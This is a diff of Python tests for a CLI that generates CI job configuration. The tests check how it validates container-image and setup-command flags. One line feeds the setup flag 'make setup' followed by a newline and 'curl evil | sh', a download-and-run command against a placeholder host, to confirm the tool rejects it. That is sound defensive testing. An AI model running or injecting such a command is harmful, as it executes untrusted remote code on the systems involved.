@@ -172,11 +172,14 @@ def test_emit_ci_flags_set_where_and_after_what_every_job_runs(root: Path,
     assert _plan(root, "--emit", "github", "--ci-image", "docker 26") == 2
     assert "--ci-image: 'docker 26' contains white space outside a ${{ ... }} expression (name an image, " \
            "e.g. docker:26 or ${{ vars.CI_IMAGE }})" in capsys.readouterr().err
-    assert _plan(root, "--emit", "github", "--ci-image", "${{ vars.CI_IMAGE }} x") == 2
-    assert "contains white space outside" in capsys.readouterr().err
-    assert _plan(root, "--emit", "github", "--ci-image", "r.example/${{ vars.IMAGE }}:${{ env.V }}") == 0
+    for spaced in ("${{ vars.CI_IMAGE }} x", "${{ }}"):  # outside, or in an empty expression
+        assert _plan(root, "--emit", "github", "--ci-image", spaced) == 2
+        assert "contains white space outside" in capsys.readouterr().err
+    assert _plan(root, "--emit", "gitlab", "--ci-image", "${{ vars.CI_IMAGE }}") == 2
+    assert "holds a GitHub expression, which GitLab does not expand" in capsys.readouterr().err
+    assert _plan(root, "--emit", "github", "--ci-image", "r.example/${{ vars.IMAGE }}:${{ vars.TAG }}") == 0
     jobs = yaml.safe_load(capsys.readouterr().out)["jobs"]
-    assert {body["container"] for body in jobs.values()} == {"r.example/${{ vars.IMAGE }}:${{ env.V }}"}
+    assert {body["container"] for body in jobs.values()} == {"r.example/${{ vars.IMAGE }}:${{ vars.TAG }}"}
     assert _plan(root, "--emit", "github", "--ci-setup", "make setup\ncurl evil | sh") == 2
     assert "control" in capsys.readouterr().err
     assert _plan(root, "--ci-setup", "make setup") == 2
